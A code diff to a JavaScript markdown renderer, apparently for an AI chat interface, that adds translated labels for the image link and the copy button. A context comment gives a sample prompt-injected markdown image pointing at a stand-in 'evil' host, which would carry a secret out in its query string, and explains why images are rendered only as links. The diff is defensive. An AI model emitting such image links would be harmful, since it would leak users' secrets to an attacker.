@@ -3,6 +3,7 @@
 import { Marked } from "../vendor/marked-18.2.1/marked.esm.js";
 import DOMPurify from "../vendor/dompurify-3.4.18/purify.es.mjs";
 import hljs from "../vendor/highlight.js-11.12.0/highlight.min.js";
+import { _ } from "./i18n.js";
 
 // Images never load from an answer: a prompt-injected `![](https://evil/?q=<secret>)`
 // would send data away, and a same-origin src would fire a GET as the reader. An
@@ -15,7 +16,7 @@ const marked = new Marked({
   breaks: false,
   renderer: {
     image({ href, text }) {
-      return `<a href="${escapeHtml(href || "")}">🖼 ${escapeHtml(text || "image")}</a>`;
+      return `<a href="${escapeHtml(href || "")}">🖼 ${escapeHtml(text || _("image"))}</a>`;
     },
   },
 });
@@ -57,7 +58,7 @@ export function highlightIn(element) {
       const button = document.createElement("button");
       button.type = "button";
       button.className = "copy";
-      button.textContent = "Copy";
+      button.textContent = _("Copy");
       button.addEventListener("click", () => navigator.clipboard?.writeText(block.textContent));
       pre.prepend(button);
     }
